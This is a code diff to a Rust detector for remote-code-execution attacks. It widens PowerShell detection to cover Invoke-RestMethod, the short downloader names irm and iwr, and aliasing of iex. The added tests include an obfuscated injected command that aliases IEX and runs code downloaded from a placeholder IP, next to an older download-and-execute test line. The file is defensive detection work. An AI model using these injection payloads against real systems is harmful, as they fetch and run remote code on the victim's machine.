@@ -171,12 +171,12 @@ const STRONG_COMMANDS: &[&str] = &[
 const WEAK_COMMANDS: &[&str] = &[
     "arp", "cat", "cd", "chdir", "cmp", "cp", "cut", "date", "dd", "del", "df", "diff", "dig",
     "dir", "du", "echo", "env", "eval", "exec", "expr", "file", "find", "finger", "ftp", "gem",
-    "git", "grep", "groups", "head", "history", "host", "id", "ip", "java", "kill", "killall",
-    "last", "less", "ln", "ls", "lua", "mail", "make", "mkdir", "more", "mount", "mv", "net", "nl",
-    "node", "npm", "od", "ping", "printf", "ps", "pwd", "rev", "route", "ruby", "sc", "service",
-    "set", "sleep", "sort", "source", "stat", "strings", "su", "tac", "tail", "tar", "tee", "time",
-    "timeout", "touch", "tr", "type", "uniq", "unzip", "ver", "vi", "vim", "wc", "which", "who",
-    "xcopy", "zip",
+    "git", "grep", "groups", "head", "history", "host", "id", "ip", "irm", "iwr", "java", "kill",
+    "killall", "last", "less", "ln", "ls", "lua", "mail", "make", "mkdir", "more", "mount", "mv",
+    "net", "nl", "node", "npm", "od", "ping", "printf", "ps", "pwd", "rev", "route", "ruby", "sc",
+    "service", "set", "sleep", "sort", "source", "stat", "strings", "su", "tac", "tail", "tar",
+    "tee", "time", "timeout", "touch", "tr", "type", "uniq", "unzip", "ver", "vi", "vim", "wc",
+    "which", "who", "xcopy", "zip",
 ];
 
 /// Commands that are an attack even with nothing around them (`whoami` as a value).
@@ -274,7 +274,13 @@ impl Rce {
                 RCE_WINDOWS,
                 // PowerShell's downloaders, sockets (reverse shells) and expression runners, also
                 // fed by a pipe or a variable (`... | iex`, `iex $d`).
-                r"\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))|iex\s*[($])|\|\s*iex\b",
+                r"\b(?:invoke-expression|invoke-webrequest|invoke-restmethod|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))|iex\s*[($])|\|\s*iex\b",
+            ),
+            (
+                RCE_WINDOWS,
+                // A new name for PowerShell's expression runner or downloaders
+                // (`sal x iex`, `Set-Alias -Name x -Value Invoke-Expression`).
+                r"\b(?:sal|set-alias|nal|new-alias)\s+(?:-name\s+)?[a-z0-9_-]+\s+(?:-value\s+)?\(?\s*['\x22]?(?:iex|invoke-expression|iwr|irm|invoke-webrequest|invoke-restmethod|saps|start-process)\b",
             ),
             (
                 RCE_WINDOWS,
@@ -1507,6 +1513,8 @@ mod tests {
                 "(New-Object Net.WebClient).DownloadString('http://x.example/a') | iex",
                 "$r=(iex $d 2>&1|Out-String)",
                 "$payload | iex",
+                "localhost; sal x ('I'+'EX'); x (irm -Uri ('ht'+'tp://198.51.100.23/a'))",
+                "Set-Alias -Name run -Value Invoke-Expression",
             ],
         );
         rule(
